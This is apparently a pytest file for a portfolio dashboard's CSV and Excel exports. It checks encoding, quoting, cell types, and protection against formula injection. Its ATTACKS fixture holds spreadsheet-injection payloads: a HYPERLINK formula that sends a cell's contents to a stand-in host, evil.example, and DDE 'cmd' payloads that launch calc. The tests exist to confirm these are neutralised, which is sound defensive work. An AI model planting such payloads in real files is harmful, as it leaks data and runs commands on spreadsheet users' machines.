"""The dashboard's CSV files and workbook, read as Excel and LibreOffice would read them."""

from __future__ import annotations

import copy
import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest

from cpc306_portfolio import open_portfolio
from cpc306_portfolio.cohort.dashboard import write_dashboard
from cpc306_portfolio.cohort.worker import FAILED, RENDERED, LearnerResult, learner_summary

from .cohorts import add_learner

TODAY = date(2026, 12, 1)
ACCENTED = 'Chloë Campbell; Zoë O\'Brien, "Team B"'
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> dict[str, Any]:
    folder = add_learner(tmp_path_factory.mktemp("cohort"), "base")
    return learner_summary(open_portfolio(folder))


def _results(base: dict[str, Any]) -> list[LearnerResult]:
    out = [
        LearnerResult(
            "chloe",
            "/c/chloe",
            RENDERED,
            html="chloe.html",
            summary=dict(copy.deepcopy(base), name=ACCENTED, organisation="Ōsaka; Ltd"),
        )
    ]
    for i, attack in enumerate(ATTACKS):
        s = dict(copy.deepcopy(base), name=attack, assessor=attack, assessors=[attack])
        out.append(LearnerResult(f"evil-{i}", f"/c/evil-{i}", RENDERED, summary=s))
    out.append(
        LearnerResult(
            "broken",
            "/c/broken",
            FAILED,
            kind="invalid",
            reason="the portfolio is invalid: evidence/E001.yaml: date: not a date",
            fix="Ask the learner to fix it.",
            name="Bea Broken",
            assessor="Priya Castellan",
        )
    )
    return out


@pytest.fixture(scope="module")
def written(tmp_path_factory, base) -> Path:
    out = tmp_path_factory.mktemp("out")
    write_dashboard(out, _results(base), iqa_seed=3, today=TODAY)
    return out


@pytest.mark.parametrize("name", ["cohort.csv", "criteria.csv", "heatmap.csv", "iqa_sample.csv"])
def test_every_csv_starts_with_the_utf8_mark_and_ends_lines_with_crlf(written, name):
    data = (written / name).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == data.count(b"\n") > 1  # RFC 4180 line ends, no bare LF
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header.startswith('"learner"') or header.startswith('"order"')
    assert all(f.startswith('"') and f.endswith('"') for f in header.split(","))


def test_names_survive_and_a_separator_inside_a_field_never_splits_its_row(written):
    data = (written / "cohort.csv").read_bytes()
    # What a spreadsheet decodes once it sees the mark: the name as typed, not "ChloÃ«".
    text = data.decode("utf-8-sig")
    assert "ChloÃ«" not in text and "Chloë Campbell" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, chloe = rows[0], rows[1]
    assert len(chloe) == len(header)  # the ";" and "," inside the name split nothing
    assert dict(zip(header, chloe, strict=True))["name"] == ACCENTED
    assert dict(zip(header, chloe, strict=True))["organisation"] == "Ōsaka; Ltd"
    line = text.split("\r\n")[1]
    # Text fields are quoted; a count stays a bare number, so it imports as a number.
    assert line.startswith('"chloe","Chloë Campbell; Zoë O\'Brien, ""Team B""",')
    evidence = header.index("evidence")
    assert line.split(",")[evidence + 2].isdigit()  # the name's two commas shift it by two


def test_a_formula_in_a_name_stays_text_in_the_csv(written):
    text = (written / "cohort.csv").read_bytes().decode("utf-8-sig")
    rows = {r["learner"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for i, attack in enumerate(ATTACKS):
        assert rows[f"evil-{i}"]["name"] == "'" + attack
        assert rows[f"evil-{i}"]["assessor"] == "'" + attack
    for line in text.split("\r\n")[1:]:
        for field in next(csv.reader([line])) if line else []:
            assert field[:1] not in ("=", "+", "-", "@"), field


def _book(written: Path) -> Any:
    from openpyxl import load_workbook

    return load_workbook(written / "cohort.xlsx")


def test_the_workbook_holds_every_table_with_typed_cells(written, base):
    book = _book(written)
    assert book.sheetnames == ["cohort", "criteria", "heatmap", "iqa_sample"]
    sheet = book["cohort"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in sheet.iter_rows(2)]
    assert [r["learner"] for r in rows] == ["chloe", *(f"evil-{i}" for i in range(4)), "broken"]
    chloe, broken = rows[0], rows[-1]
    assert chloe["name"] == ACCENTED
    assert chloe["evidence"] == base["evidence_count"] and type(chloe["evidence"]) is int
    assert type(chloe["criteria_met"]) is int and type(chloe["days_since_activity"]) is int
    assert isinstance(chloe["last_activity"], datetime)  # a date cell, not text
    assert chloe["last_activity"].date() == date.fromisoformat(base["last_activity"])
    assert chloe["ready_for_assessment"] is True
    # A learner who could not be read: empty cells, never 0 or 0.0.
    assert broken["evidence"] is None and broken["criteria_met"] is None
    assert broken["last_activity"] is None and broken["outcome"] == "failed"
    heat = book["heatmap"]
    header = [c.value for c in heat[1]]
    last = [c.value for c in list(heat.iter_rows(2))[-1]]
    assert dict(zip(header, last, strict=True))["A1"] is None
    first = dict(zip(header, (c.value for c in heat[2]), strict=True))
    assert type(first["A1"]) is int
    assert book["iqa_sample"].max_row >= 2


def test_a_formula_in_a_name_is_text_in_the_workbook(written):
    sheet = _book(written)["cohort"]
    header = [c.value for c in sheet[1]]
    names = [r[header.index("name")] for r in sheet.iter_rows(2)]
    for cell, attack in zip(names[1:5], ATTACKS, strict=True):
        assert cell.value == attack and cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(written / "cohort.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
